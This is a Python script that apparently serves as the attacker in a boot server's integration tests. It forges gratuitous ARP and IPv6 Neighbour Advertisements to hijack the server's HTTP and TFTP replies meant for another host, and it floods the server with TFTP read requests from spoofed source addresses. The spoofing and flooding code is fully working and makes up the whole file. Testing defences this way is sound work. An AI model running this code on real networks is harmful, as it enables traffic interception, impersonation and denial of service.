#!/usr/bin/env python3
"""A host on the boot network that forges its neighbour entry at bootvol (tests/it/neighbour.rs).

It keeps its own MAC and IP. Around one request it tells the server, with one gratuitous ARP
(IPv4) or one unsolicited Neighbour Advertisement with the override flag (IPv6), that its own IP
is at the victim's MAC, then puts its entry back the same way 50 ms later; the server's answer,
sent to the victim's MAC first, reaches the attacker on TCP's (or TFTP's) retransmission.

    attacker.py http IFACE OWN_MAC FORGED_MAC SERVER PORT METHOD PATH [-H 'Name: value']... [--body TEXT] [--hide IP=MAC]...
    attacker.py tftp IFACE OWN_MAC FORGED_MAC SERVER FILE [--hide IP=MAC]...
    attacker.py flip IFACE MAC OWN_IP    (the entry only: no request)
    attacker.py rrq-flood SERVER FIRST_SOURCE SOURCES RATE SECONDS FILE...
        TFTP read requests from forged on-link sources (FIRST_SOURCE and the SOURCES-1
        addresses after it, in turn), RATE a second for SECONDS, cycling through the FILEs;
        prints how many were sent.

--hide IP=MAC makes it a double flip: around the request it also tells the server that another
host's address (the node's last one) is at MAC, a bogus one, so that the server's cache says the
node is gone from there.

http prints the status code on the first line, then the body; tftp prints the file, or
"ERROR <code> <message>", or "TIMEOUT". Run inside the attacker's network namespace, as root
(AF_PACKET).
"""

import ipaddress
import socket
import struct
import sys
import time


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def own_address(iface, family):
    """The interface's first address of the family (from `ip -o addr`)."""
    import subprocess

    out = subprocess.run(["ip", "-o", "addr", "show", "dev", iface], check=True,
                         capture_output=True, text=True).stdout
    key = "inet" if family == socket.AF_INET else "inet6"
    for line in out.splitlines():
        fields = line.split()
        if key in fields:
            address = fields[fields.index(key) + 1].split("/")[0]
            if key == "inet" or not address.startswith("fe80"):
                return address
    raise SystemExit(f"no {key} address on {iface}")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total) & 0xFFFF


def send_frame(iface, frame):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((iface, 0))
    raw.send(frame)
    raw.close()


def gratuitous_arp(iface, own_mac, claimed_mac, ip):
    """ARP request with sender = target = ip, sender hardware address = claimed_mac."""
    ip4 = socket.inet_aton(ip)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac_bytes(claimed_mac) + ip4 + b"\0" * 6 + ip4
    frame = b"\xff" * 6 + mac_bytes(own_mac) + struct.pack("!H", 0x0806) + arp
    send_frame(iface, frame)


def unsolicited_na(iface, own_mac, claimed_mac, ip):
    """Neighbour Advertisement to all nodes, override set, target ip at claimed_mac."""
    src = ipaddress.IPv6Address(ip).packed
    dst = ipaddress.IPv6Address("ff02::1").packed
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + src + struct.pack("!BB", 2, 1) + mac_bytes(claimed_mac)
    pseudo = src + dst + struct.pack("!I", len(body)) + b"\0\0\0" + bytes([58])
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst
    frame = bytes.fromhex("333300000001") + mac_bytes(own_mac) + struct.pack("!H", 0x86DD) + header + body
    send_frame(iface, frame)


def flip(iface, own_mac, claimed_mac, ip):
    if ":" in ip:
        unsolicited_na(iface, own_mac, claimed_mac, ip)
    else:
        gratuitous_arp(iface, own_mac, claimed_mac, ip)


def http(argv):
    iface, own_mac, forged_mac, server, port, method, path = argv[:7]
    headers, body, hide, rest = [], "", [], argv[7:]
    while rest:
        if rest[0] == "-H":
            headers.append(rest[1])
        elif rest[0] == "--body":
            body = rest[1]
        elif rest[0] == "--hide":
            hide.append(rest[1].split("="))
        rest = rest[2:]
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    own_ip = own_address(iface, family)
    conn = socket.socket(family, socket.SOCK_STREAM)
    conn.settimeout(8)
    conn.connect((server, int(port)))
    request = f"{method} {path} HTTP/1.1\r\nHost: {server}\r\nConnection: close\r\n"
    for header in headers:
        request += header + "\r\n"
    if body or method == "POST":
        request += f"Content-Type: application/json\r\nContent-Length: {len(body.encode())}\r\n"
    request += "\r\n" + body
    for hidden_ip, bogus_mac in hide:
        flip(iface, own_mac, bogus_mac, hidden_ip)
    flip(iface, own_mac, forged_mac, own_ip)
    time.sleep(0.05)
    conn.sendall(request.encode())
    time.sleep(0.05)
    flip(iface, own_mac, own_mac, own_ip)
    data = b""
    try:
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                break
            data += chunk
    except socket.timeout:
        pass
    head, _, content = data.partition(b"\r\n\r\n")
    status = head.split(b" ")[1].decode() if head.startswith(b"HTTP/") else "none"
    sys.stdout.write(status + "\n" + content.decode(errors="replace"))


def tftp(argv):
    iface, own_mac, forged_mac, server, name = argv[:5]
    hide = [pair.split("=") for flag, pair in zip(argv[5::2], argv[6::2]) if flag == "--hide"]
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    own_ip = own_address(iface, family)
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(6)
    for hidden_ip, bogus_mac in hide:
        flip(iface, own_mac, bogus_mac, hidden_ip)
    flip(iface, own_mac, forged_mac, own_ip)
    time.sleep(0.05)
    sock.sendto(b"\0\1" + name.encode() + b"\0octet\0", (server, 69))
    time.sleep(0.05)
    flip(iface, own_mac, own_mac, own_ip)
    content, expected = b"", 1
    try:
        while True:
            packet, peer = sock.recvfrom(65536)
            opcode = struct.unpack("!H", packet[:2])[0]
            if opcode == 5:
                code = struct.unpack("!H", packet[2:4])[0]
                message = packet[4:].rstrip(b"\0").decode(errors="replace")
                sys.stdout.write(f"ERROR {code} {message}")
                return
            if opcode != 3:
                continue
            block = struct.unpack("!H", packet[2:4])[0]
            if block == expected:
                content += packet[4:]
                expected += 1
            sock.sendto(b"\0\4" + packet[2:4], peer)
            if block == expected - 1 and len(packet) - 4 < 512:
                break
    except socket.timeout:
        sys.stdout.write("TIMEOUT" if not content else content.decode(errors="replace"))
        return
    sys.stdout.write(content.decode(errors="replace"))


def rrq_flood(argv):
    server, first, count, rate, seconds = argv[0], argv[1], int(argv[2]), float(argv[3]), float(argv[4])
    files = argv[5:]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    base = int(ipaddress.IPv4Address(first))
    dst = socket.inet_aton(server)
    sent, start = 0, time.monotonic()
    while time.monotonic() - start < seconds:
        src = socket.inet_aton(str(ipaddress.IPv4Address(base + sent % count)))
        payload = b"\0\1" + files[sent % len(files)].encode() + b"\0octet\0"
        udp = struct.pack("!HHHH", 1024 + sent % 50000, 69, 8 + len(payload), 0) + payload
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
        raw.sendto(header + udp, (server, 0))
        sent += 1
        pause = start + sent / rate - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    sys.stdout.write(f"{sent}\n")


def main():
    command, argv = sys.argv[1], sys.argv[2:]
    if command == "http":
        http(argv)
    elif command == "tftp":
        tftp(argv)
    elif command == "rrq-flood":
        rrq_flood(argv)
    elif command == "flip":
        iface, mac, ip = argv[:3]
        flip(iface, mac, mac, ip)
    else:
        raise SystemExit(f"unknown command {command}")


if __name__ == "__main__":
    main()
